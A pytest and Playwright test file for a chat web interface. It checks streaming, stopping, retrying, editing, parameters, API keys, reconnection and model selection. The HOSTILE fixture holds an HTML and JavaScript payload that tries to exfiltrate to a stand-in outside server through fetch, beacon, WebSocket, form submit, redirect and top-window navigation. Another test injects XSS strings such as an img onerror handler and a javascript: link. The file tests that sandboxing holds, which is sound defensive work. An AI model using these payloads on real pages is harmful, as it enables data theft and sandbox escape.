"""Chat in a browser: streaming, stop, retry, edit, schemas, faults in words, and HTML that must stay in its frame."""

import http.server
import json
import threading
import time

import httpx2
import pytest
from playwright.sync_api import Page, expect

from fourleaf.serve.app import create_app
from fourleaf.serve.capabilities import ALL_FIELDS, Abilities
from fourleaf.serve.models import Models
from fourleaf.tasks.cabin.schema import TOOLS
from fourleaf.text.constraint import KINDS


def say(page: Page, text: str) -> None:
    page.get_by_label("Message", exact=True).fill(text)
    page.locator("[data-act=send]").click()


def answer_is(page: Page, text: str) -> None:
    expect(page.locator(".bubble.assistant .said").last).to_have_text(text)


def answered(page: Page, count: int = 1) -> None:
    page.wait_for_function("n => document.querySelectorAll('.bubble.assistant .note').length >= n", arg=count)


def test_an_answer_is_markdown_with_code(visit, serve, scripted):
    text = (
        "# Plan\n\nUse **both** `a` and [this](https://example.com/x):\n\n- one\n- two\n\n"
        "```python\ndef f():\n    return 1\n```\n"
    )
    page = visit(serve(scripted(text)), "chat")
    say(page, "how?")
    answered(page)
    said = page.locator(".bubble.assistant .said")
    expect(said.locator("h3")).to_have_text("Plan")
    expect(said.locator("strong")).to_have_text("both")
    expect(said.locator("li")).to_have_text(["one", "two"])
    expect(said.locator("pre .code-word")).to_have_text(["def", "return"])
    assert said.locator("a").get_attribute("rel") == "noopener noreferrer nofollow"


def test_stop_keeps_what_was_committed_and_the_next_answer_comes(visit, serve, scripted):
    engine = scripted("word " * 100, "fine")
    engine.gate = threading.Semaphore(3)
    page = visit(serve(engine), "chat")
    say(page, "go on")
    page.wait_for_function("() => document.querySelector('.bubble.assistant .said').textContent.includes('word')")
    page.locator("[data-act=stop]").last.click()
    page.get_by_text("Stopped.").wait_for()
    for _ in range(50):
        engine.gate.release()
    say(page, "and now?")
    answer_is(page, "fine")
    assert engine.finished == 1


def test_retry_asks_again_and_edit_takes_the_message_back(visit, serve, scripted):
    engine = scripted("first", "second", "third")
    page = visit(serve(engine), "chat")
    say(page, "hello")
    answer_is(page, "first")
    page.get_by_role("button", name="Try again").click()
    answer_is(page, "second")
    assert page.locator(".bubble").count() == 2
    page.get_by_role("button", name="Edit").click()
    assert page.get_by_label("Message", exact=True).input_value() == "hello"
    assert page.locator(".bubble").count() == 0
    assert engine.prompts[0] == engine.prompts[1]


def test_what_is_chosen_reaches_the_engine(visit, serve, scripted):
    engine = scripted('{"a": 1}')
    engine.abilities = Abilities(fields=ALL_FIELDS, modes=("ar", "diffuse"), constraints=KINDS)
    page = visit(serve(engine, fixed_tools=None), "chat")
    page.get_by_text("How it answers").click()
    page.get_by_label("Threshold", exact=True).fill("0.7")
    page.get_by_label("Seed").fill("11")
    page.get_by_label("Temperature").fill("0.5")
    page.get_by_label("Max tokens").fill("99")
    page.get_by_label("System prompt").fill("Be brief.")
    schema = page.get_by_label("JSON schema")
    schema.fill("{no")
    say(page, "hi")
    page.get_by_text("The schema is no JSON").wait_for()
    assert engine.params == []
    schema.fill('{"type": "object"}')
    page.locator("[data-act=send]").click()
    page.locator(".bubble.assistant pre").wait_for()
    asked = engine.params[0]
    assert (asked.threshold, asked.seed, asked.temperature, asked.max_tokens) == (0.7, 11, 0.5, 99)
    assert asked.constraint is not None
    assert "Be brief." in engine.prompts[0]


def test_ten_thousand_characters_and_a_full_context_are_answered_in_words(visit, serve, scripted):
    engine = scripted("read", max_context=12_000)
    page = visit(serve(engine), "chat")
    say(page, "x" * 10_000)
    answer_is(page, "read")
    assert "x" * 10_000 in engine.prompts[0]
    say(page, "x" * 13_000)
    expect(page.locator(".bubble .fault")).to_contain_text("context length is 12000 tokens")


def test_a_bad_key_is_asked_for_again(visit, serve, scripted):
    page = visit(serve(scripted("hello there"), api_key="right"), "chat")
    box = page.get_by_label("API key")
    box.fill("wrong")
    page.get_by_role("button", name="Use key").click()
    page.wait_for_timeout(300)
    page.get_by_label("API key").fill("right")
    page.get_by_role("button", name="Use key").click()
    say(page, "hi")
    answer_is(page, "hello there")


def test_a_server_that_is_gone_is_noticed_and_so_is_its_return(visit, listen, scripted):
    with listen(create_app(scripted("one"), fixed_tools=TOOLS)) as url:
        page = visit(url, "chat")
        say(page, "hi")
        answer_is(page, "one")
    say(page, "still there?")
    expect(page.locator("#trouble")).to_contain_text("does not answer")
    port = int(url.rsplit(":", 1)[1])
    with listen(create_app(scripted("back"), fixed_tools=TOOLS), port):
        expect(page.locator("#trouble")).to_be_hidden()
        say(page, "and now?")
        answer_is(page, "back")


def test_chats_are_kept_in_the_browser_and_can_be_forgotten(visit, serve, scripted):
    page = visit(serve(scripted("noted")), "chat")
    say(page, "remember me")
    answered(page)
    page.reload()
    page.get_by_role("button", name="remember me", exact=True).click()
    expect(page.locator(".bubble.assistant .said")).to_have_text("noted")
    page.get_by_role("button", name="Forget all").click()
    assert page.evaluate("() => localStorage.getItem('fourleaf.chats')") is None


@pytest.fixture
def outside():
    """A server elsewhere, and what it was asked for."""
    asked: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        def log_message(self, format: str, *args: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", asked
        server.shutdown()
        thread.join()


HOSTILE = """<!doctype html><h1 id=title>Hello</h1><img src="{out}/img"><link rel=stylesheet href="{out}/css">
<link rel=prefetch href="{out}/prefetch"><script src="{out}/js"></script><iframe src="{out}/frame"></iframe>
<meta http-equiv=refresh content="1;url={out}/refresh"><form id=f action="{out}/form"><input name=a></form>
<script>
const said = {{}};
const attempt = (name, what) => {{
  try {{ said[name] = String(what()); }} catch (error) {{ said[name] = 'refused'; }}
}};
attempt('storage', () => localStorage.length);
attempt('parent', () => parent.document.title);
attempt('top', () => {{ top.location = '{out}/top'; return 'set'; }});
attempt('popup', () => window.open('{out}/popup'));
attempt('rtc', () => typeof RTCPeerConnection);
attempt('beacon', () => navigator.sendBeacon('{out}/beacon', 'x'));
fetch('{out}/fetch').catch(() => 0);
fetch('/v1/models').then(() => said.api = 'read').catch(() => said.api = 'refused').then(() =>
  document.getElementById('title').textContent = JSON.stringify(said));
new Image().src = '{out}/image';
try {{ new WebSocket('{out}/ws'.replace('http', 'ws')); }} catch (error) {{}}
try {{ document.getElementById('f').submit(); }} catch (error) {{}}
setTimeout(() => {{ location = '{out}/location?' + document.title; }}, 1500);
</script>"""


def test_hostile_html_neither_leaves_its_frame_nor_reaches_the_network(browser, serve, scripted, outside):
    url, asked = outside
    answer = HOSTILE.format(out=url) + "<script>parent.postMessage('ready', '*')</script>"
    context = browser.new_context()
    page = context.new_page()
    try:
        page.goto(f"{serve(scripted(answer, max_context=20_000))}/#chat")
        page.wait_for_selector(".view")
        page.evaluate("() => fourleaf.settings.set('max_tokens', 4000)")
        say(page, "a page, please")
        frame = page.frame_locator(".preview iframe")
        expect(frame.locator("#title")).to_contain_text("api", timeout=30_000)
        said = json.loads(frame.locator("#title").inner_text())
        assert said["api"] == said["storage"] == said["parent"] == "refused"
        assert said["rtc"] == "undefined"
        time.sleep(4)  # the refresh and the change of location have had their time
        assert asked == []
        assert url not in page.url
        assert len(context.pages) == 1
        assert page.evaluate("() => document.querySelector('#title')") is None
        assert page.locator(".preview iframe").get_attribute("sandbox") == "allow-scripts"
    finally:
        context.close()


def test_html_in_an_answer_stays_text_in_the_chat(visit, serve, scripted):
    run = "document.title='run'"
    answer = f'<img src=x onerror="{run}"> <script>{run}</script> **<b>x</b>** [a](javascript:alert)'
    page = visit(serve(scripted(answer)), "chat")
    say(page, "hi")
    answered(page)
    said = page.locator(".bubble.assistant .said")
    assert said.locator("img, script, b").count() == 0
    assert said.locator("a").count() == 0
    assert "<script>" in said.inner_text()
    assert page.title() == "Fourleaf"


def test_one_of_several_models_is_chosen_and_asked(visit, listen, scripted):
    engines = {"first": scripted("I am first", name="first"), "second": scripted("I am second", name="second")}
    models = Models({name: lambda engine=engine: (engine, None) for name, engine in engines.items()})
    with listen(create_app(models)) as url:
        while httpx2.get(f"{url}/health", timeout=30).status_code != 200:
            time.sleep(0.05)
        page = visit(url, "chat")
        page.locator("#served select").select_option("second")
        page.wait_for_function("() => document.querySelector('#served select')?.value === 'second'")
        say(page, "who?")
        answer_is(page, "I am second")
        assert engines["first"].prompts == []
